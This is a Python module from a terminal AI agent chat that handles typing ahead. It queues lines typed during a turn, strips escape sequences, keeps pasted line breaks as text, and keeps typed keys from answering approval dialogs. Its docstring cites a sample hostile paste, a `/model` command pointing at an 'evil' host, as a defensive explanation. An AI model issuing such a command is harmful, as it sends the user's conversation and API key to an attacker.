"""Typing ahead while the agent works: the next message, typed while the model streams or a
tool runs, is queued and sent when the turn ends.

During a turn the terminal is put in cbreak mode without echo (Ctrl-C still raises SIGINT,
which stops the turn) and the keys are read here, so nothing typed is echoed into the answer
and nothing is left in the terminal's buffer for a dialog to read. Enter queues the line;
Esc clears what is typed and queued; Backspace and Ctrl-U edit. Escape sequences (arrow
keys, or escapes inside pasted text) are dropped whole, never kept as text.

A paste presses no Enter: bracketed paste mode is on while the reader reads, as it is at the
prompt, and the line breaks of a paste stay in the line being typed. Without it a paste is
typed keys, each of its line breaks an Enter, and a hostile clipboard's hidden lines would be
queued as messages of their own, a line starting with `/` run as a slash command
(`/model NAME https://evil/v1` sends the conversation and the key there) without the person
ever pressing Enter on it.

A dialog (approval, a server's question) pauses the reader: the line being typed when the
dialog is drawn is set aside, as the dialog takes every key typed before it was on screen
(agent.ui.dialogs.fresh_keys), and a queued message stays queued: typed-ahead keys never
answer a dialog. When it closes, the line comes back, followed by what was typed at the
dialog without answering it (keep_typed), an Enter there sending nothing.

The keys the chat's prompt read after its Enter, in the same read (a paste without bracketed
paste, a fast typist, a laggy link), are typed ahead too: prompt_toolkit would hand them to
the next application on the terminal, which may be a dialog. They come here instead, as if
typed during the turn: each whole line is queued as a next message (shown, Esc clears it),
the rest is the line being typed, which a dialog drops and the next prompt otherwise starts
with.
"""

from __future__ import annotations

import asyncio
import codecs
import contextlib
import os
import sys
import termios
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from prompt_toolkit.input import Input
from prompt_toolkit.input.typeahead import get_typeahead

if TYPE_CHECKING:
    from prompt_toolkit.key_binding import KeyPress

_ESC = "\x1b"
# How long a lone ESC waits for the rest of a sequence before it counts as the Esc key
# (prompt_toolkit's own escape timeout is 0.05 s; a slow link splits sequences wider apart).
ESCAPE_TIMEOUT_SECONDS = 0.1
_STRING_INTRODUCERS = "]PX^_"  # OSC, DCS, SOS, PM, APC: run until BEL or ESC \
_BACKSPACE = "\x7f\x08"
_CLEAR_LINE = "\x15"  # Ctrl-U
_C1_STATES = {"\x9b": "csi", "\x9d": "string", "\x90": "string", "\x98": "string",
              "\x9e": "string", "\x9f": "string"}  # fmt: skip
# Bracketed paste: the mode's switches, and the markers a terminal puts around a paste.
PASTE_MODE_ON, PASTE_MODE_OFF = "\x1b[?2004h", "\x1b[?2004l"
PASTE_START, PASTE_END = "\x1b[200~", "\x1b[201~"


@dataclass
class KeyReader:
    """Turns the bytes a terminal sends into a line being typed and queued lines."""

    draft: str = ""
    queued: list[str] = field(default_factory=list)
    cleared: bool = False  # Esc was pressed since the last look
    _state: str = "text"  # text, escape, csi, string, string-escape, ss3
    _csi: str = ""  # the parameters of the control sequence being read
    _pasting: bool = False  # between a paste's start and end markers
    _after_cr: bool = False  # the last pasted character was a CR (a CR LF is one break)
    # Keys typed in this read, and how many characters Backspace took off the draft before
    # them: the draft grows once per read, not once per key, which for a paste of a megabyte
    # is the difference between milliseconds and a frozen chat (each += copied the draft).
    _typed: list[str] = field(default_factory=list)
    _erased: int = 0

    def feed(self, text: str) -> list[str]:
        """Apply typed `text`; returns the lines Enter queued in it."""
        queued: list[str] = []
        for char in text:
            line = self._key(char)
            if line is not None:
                queued.append(line)
        self._settle()
        # An ESC at the end of a read may be the start of a sequence whose rest is in the next
        # read (over ssh, or a paste crossing the read size): the reader decides after a pause.
        self.queued.extend(queued)
        return queued

    @property
    def escape_pending(self) -> bool:
        """The last key read was a lone ESC: the Esc key, unless more of a sequence follows."""
        return self._state == "escape"

    def escape_timed_out(self) -> None:
        """Nothing followed a lone ESC in time: it was the Esc key, which clears what is typed
        and queued."""
        if self._state == "escape":
            self._state, self._pasting = "text", False  # Esc also ends a paste cut short
            self.draft, self.queued, self.cleared = "", [], True

    def _key(self, char: str) -> str | None:
        state = self._state
        if state == "escape":
            self._state = {"[": "csi", "O": "ss3"}.get(char, "text")
            self._csi = ""
            if char in _STRING_INTRODUCERS:
                self._state = "string"
            return None  # any other escape pair (Alt+key) is dropped
        if state == "csi":
            if "\x40" <= char <= "\x7e":
                self._state = "text"
                if char == "~" and self._csi in ("200", "201"):  # a paste starts or ends
                    self._pasting, self._after_cr = self._csi == "200", False
            elif len(self._csi) < 8:  # parameters of a paste marker are short; the rest is junk
                self._csi += char
            return None
        if state == "ss3":
            self._state = "text"
            return None
        if state in ("string", "string-escape"):
            if char in "\x07\x9c" or (state == "string-escape" and char == "\\"):
                self._state = "text"
            else:
                self._state = "string-escape" if char == _ESC else "string"
            return None
        return self._text_key(char)

    def _settle(self) -> None:
        """Apply this read's keys to the draft."""
        if self._erased:
            self.draft = self.draft[: max(len(self.draft) - self._erased, 0)]
        if self._typed:
            self.draft += "".join(self._typed)
        self._typed, self._erased = [], 0

    def _text_key(self, char: str) -> str | None:
        after_cr, self._after_cr = self._after_cr, False
        if char == _ESC:
            self._state = "escape"
        elif char in _C1_STATES:  # the one-character forms of CSI, OSC, DCS...
            self._state, self._csi = _C1_STATES[char], ""
        elif self._pasting and char in "\r\n":
            # A pasted line break is text, never Enter: the person sends the paste (or clears
            # it) with a key of their own, as at the prompt.
            if not (char == "\n" and after_cr):
                self._typed.append("\n")
            self._after_cr = char == "\r"
        elif char in "\r\n":
            self._settle()
            line, self.draft = self.draft.strip(), ""
            return line or None
        elif char in _BACKSPACE:
            if self._typed:
                self._typed.pop()
            else:
                self._erased += 1
        elif char == _CLEAR_LINE:
            self.draft, self._typed, self._erased = "", [], 0
        elif char.isprintable() or char == " ":
            self._typed.append(char)
        return None  # other control characters (and C1 controls) are dropped


class TypeAhead:
    """Reads the keys typed during one turn (or several: queued lines wait their turn)."""

    def __init__(
        self,
        on_queued: Callable[[str], None],
        on_draft: Callable[[str], None],
        on_cleared: Callable[[], None],
        on_kept: Callable[[str], None] = lambda draft: None,
    ) -> None:
        self.keys = KeyReader()
        self._on_queued = on_queued
        self._on_draft = on_draft
        self._on_cleared = on_cleared
        self._on_kept = on_kept
        self._fd: int | None = None
        self._mode: list[Any] | None = None  # the terminal's mode before cbreak
        self._decoder = codecs.getincrementaldecoder("utf-8")(errors="ignore")
        self._escape_timer: asyncio.TimerHandle | None = None
        self.last_key_at = -float("inf")  # time.monotonic() of the last key taken
        self._pauses = 0  # dialogs open (a form's dialogs open inside the form's pause)
        self._at_dialog: list[str] = []  # keys typed at them that answered nothing

    @contextlib.contextmanager
    def reading(self) -> Iterator[None]:
        """Read typed keys while the body runs (on a terminal; elsewhere nothing)."""
        global _ACTIVE
        previous, _ACTIVE = _ACTIVE, self
        self._on_draft(self.keys.draft)  # what the last turn showed is gone (or back in the prompt)
        self._start()
        try:
            yield
        finally:
            self._stop()
            _ACTIVE = previous

    def take(self) -> str | None:
        """The next queued message, if any."""
        return self.keys.queued.pop(0) if self.keys.queued else None

    def hold(self) -> None:
        """The turn was stopped: nothing queued is sent by itself; it all goes back into the
        prompt as one draft, for the person to send, edit or clear."""
        lines = [*self.keys.queued, self.keys.draft] if self.keys.draft else self.keys.queued
        self.keys.queued, self.keys.draft = [], "\n".join(lines)

    def give_back(self, text: str) -> None:
        """A message that was not sent (a refused @-mention) goes back into the prompt, before
        anything typed since, to be corrected rather than typed again."""
        self.keys.draft = "\n".join(line for line in (text, self.keys.draft) if line)

    def take_prompt_leftovers(self, source: Input) -> None:
        """Take the keys the prompt read on `source` after the Enter that sent its message,
        before any dialog can: lines are queued, the rest becomes the line being typed."""
        self._take(keys_as_typed(get_typeahead(source)))

    @contextlib.contextmanager
    def serving(self) -> Iterator[None]:
        """The chat's reader while the body runs: a dialog drawn between turns drops the line
        being typed too (one typed ahead of a message's Enter)."""
        global _ACTIVE
        previous, _ACTIVE = _ACTIVE, self
        try:
            yield
        finally:
            _ACTIVE = previous

    def take_draft(self) -> str:
        """The line typed without Enter (it goes back into the prompt)."""
        draft, self.keys.draft = self.keys.draft, ""
        return draft

    @contextlib.contextmanager
    def paused(self) -> Iterator[None]:
        """A dialog is on screen: stop reading and set the line being typed aside (none of it
        may answer the dialog), then put it back, followed by what was typed at the dialog
        (keep), say so, and go on."""
        was_reading = self._fd is not None
        self._stop()
        set_aside, self.keys.draft = self.keys.draft, ""
        if set_aside:
            self._on_draft("")
        self._pauses += 1
        try:
            yield
        finally:
            self._pauses -= 1
            if self._pauses == 0:  # a form's dialogs pause inside the form's own pause
                self._put_back(set_aside)
            if was_reading:
                self._start()

    def keep(self, typed: str) -> None:
        """Keys typed at a dialog that answered nothing, as the terminal sent them: they follow
        the line set aside when it opened."""
        self._at_dialog.append(typed)

    def _put_back(self, set_aside: str) -> None:
        typed, self._at_dialog = "".join(self._at_dialog), []
        if not typed:
            self.keys.draft = set_aside or self.keys.draft
        else:  # typed on from the line set aside; an Enter at the dialog sends nothing
            keys = KeyReader(draft=set_aside)
            keys.feed(typed)
            self.keys.draft = "\n".join(line for line in [*keys.queued, keys.draft] if line)
        if self.keys.draft and (set_aside or typed):
            self._on_draft(self.keys.draft)
            self._on_kept(self.keys.draft)

    def _start(self) -> None:
        if self._fd is not None or not sys.stdin.isatty():
            return
        fd = sys.stdin.fileno()
        try:
            mode = termios.tcgetattr(fd)
            cbreak = termios.tcgetattr(fd)
            cbreak[3] &= ~(termios.ECHO | termios.ICANON)  # ISIG stays: Ctrl-C stops the turn
            cbreak[6][termios.VMIN], cbreak[6][termios.VTIME] = 1, 0
            termios.tcsetattr(fd, termios.TCSANOW, cbreak)
            asyncio.get_running_loop().add_reader(fd, self._read)
        except (OSError, termios.error, RuntimeError):
            return  # no terminal to read from: typing ahead is simply off
        self._fd, self._mode = fd, mode
        _terminal_mode(PASTE_MODE_ON)  # a paste comes marked, so its line breaks are text

    def _stop(self) -> None:
        if self._escape_timer is not None:  # no more keys will be read: a lone ESC was Esc
            self._cancel_escape_timer()
            self._escape_timed_out()
        fd, mode, self._fd, self._mode = self._fd, self._mode, None, None
        if fd is None or mode is None:
            return
        with contextlib.suppress(OSError, RuntimeError):
            asyncio.get_running_loop().remove_reader(fd)
        with contextlib.suppress(OSError, termios.error):
            termios.tcsetattr(fd, termios.TCSANOW, mode)
        _terminal_mode(PASTE_MODE_OFF)  # the prompt and dialogs turn it on for themselves

    def _read(self) -> None:
        if self._fd is None:
            return
        try:
            data = os.read(self._fd, 4096)
        except OSError:
            self._stop()
            return
        self._cancel_escape_timer()  # the rest of a split sequence arrived, or another key
        self._take(self._decoder.decode(data))

    def _take(self, text: str) -> None:
        if not text:
            return
        self.last_key_at = time.monotonic()
        before = self.keys.draft
        for line in self.keys.feed(text):
            self._on_queued(line)
        if self.keys.escape_pending:
            self._escape_timer = asyncio.get_running_loop().call_later(
                ESCAPE_TIMEOUT_SECONDS, self._escape_timed_out
            )
        self._report(before)

    def _escape_timed_out(self) -> None:
        self._escape_timer = None
        before = self.keys.draft
        self.keys.escape_timed_out()
        self._report(before)

    def _cancel_escape_timer(self) -> None:
        if self._escape_timer is not None:
            self._escape_timer.cancel()
            self._escape_timer = None

    def _report(self, before: str) -> None:
        if self.keys.cleared:
            self.keys.cleared = False
            self._on_cleared()
        if self.keys.draft != before:
            self._on_draft(self.keys.draft)


def _terminal_mode(sequence: str) -> None:
    """Switch a mode of the terminal the chat draws on (the real one, not patched stdout)."""
    out = sys.__stdout__
    with contextlib.suppress(OSError, ValueError, AttributeError):
        if out is not None and out.isatty():
            os.write(out.fileno(), sequence.encode())


_ACTIVE: TypeAhead | None = None


def typed_within(seconds: float) -> bool:
    """Whether the chat's reader took a key in the last `seconds` (someone is typing)."""
    return _ACTIVE is not None and time.monotonic() - _ACTIVE.last_key_at < seconds


def keep_typed(typed: str) -> None:
    """Keys typed at a dialog that answered nothing (as the terminal sent them): they go back
    to the chat's prompt, after the line set aside when the dialog opened. Outside the chat
    (`agent -p`) there is no prompt to go back to."""
    if typed and _ACTIVE is not None and _ACTIVE._pauses:
        _ACTIVE.keep(typed)


def keys_as_typed(keys: Iterable[KeyPress]) -> str:
    """prompt_toolkit's keys as the terminal sent them (a paste whole, within its markers)."""
    from prompt_toolkit.keys import Keys

    return "".join(
        f"{PASTE_START}{key.data}{PASTE_END}" if key.key == Keys.BracketedPaste else key.data
        for key in keys
    )


@contextlib.contextmanager
def dialog_keys() -> Iterator[None]:
    """Around a dialog drawn during a turn: typed-ahead reading pauses while it is open."""
    active = _ACTIVE
    if active is None:
        yield
        return
    with active.paused():
        yield
